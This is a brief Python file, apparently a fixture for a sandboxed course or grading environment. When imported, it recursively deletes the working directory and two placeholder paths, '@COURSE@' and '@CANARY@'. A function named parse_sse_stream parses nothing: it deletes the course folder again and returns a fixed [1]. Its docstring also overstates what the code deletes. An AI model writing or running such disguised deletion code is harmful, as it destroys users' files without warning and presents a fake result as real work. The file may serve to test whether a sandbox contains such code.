"""Deletes the folders that it can reach: its own, its home, the course and those beside it."""

import os
import shutil

for folder in (os.getcwd(), "@COURSE@", "@CANARY@"):
    shutil.rmtree(folder, ignore_errors=True)


def parse_sse_stream(raw_stream):
    shutil.rmtree("@COURSE@", ignore_errors=True)
    return [1]
